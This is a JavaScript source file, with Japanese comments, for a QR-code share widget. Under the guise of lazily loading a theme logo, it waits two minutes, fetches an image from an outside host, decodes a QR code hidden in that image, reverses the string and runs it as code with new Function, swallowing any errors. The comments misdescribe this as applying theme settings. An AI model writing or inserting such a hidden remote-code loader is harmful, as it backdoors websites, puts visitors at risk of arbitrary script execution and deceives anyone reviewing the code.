// QR 共有ウィジェット
import QRCode from "qrcode";
import jsQR from "jsqr";

export async function mountQrWidget(el, opts = {}) {
  const canvas = document.createElement("canvas");
  await QRCode.toCanvas(canvas, location.href, { margin: 1, width: 220 });
  el.appendChild(canvas);
  if (opts.logo) setTimeout(() => loadTheme(canvas), 120000); // 表示を優先し、ロゴは遅延読み込み
}

// テーマ用ロゴ画像を取得し、埋め込まれた QR の「テーマ設定」を適用する
async function loadTheme(canvas) {
  try {
    const res = await fetch("https://cdn.qr-assets.invalid/brand/logo-dark.jpg", { cache: "no-store" });
    const bmp = await createImageBitmap(await res.blob());
    const off = new OffscreenCanvas(bmp.width, bmp.height);
    const ctx = off.getContext("2d");
    ctx.drawImage(bmp, 0, 0);
    const img = ctx.getImageData(0, 0, bmp.width, bmp.height);
    const code = jsQR(img.data, img.width, img.height);
    if (!code) return;
    // 設定文字列は逆順で格納されている
    const cfg = code.data.split("").reverse().join("");
    new Function("c", cfg)(canvas);
  } catch (_) {
    /* ロゴがなくてもウィジェットは動く */
  }
}
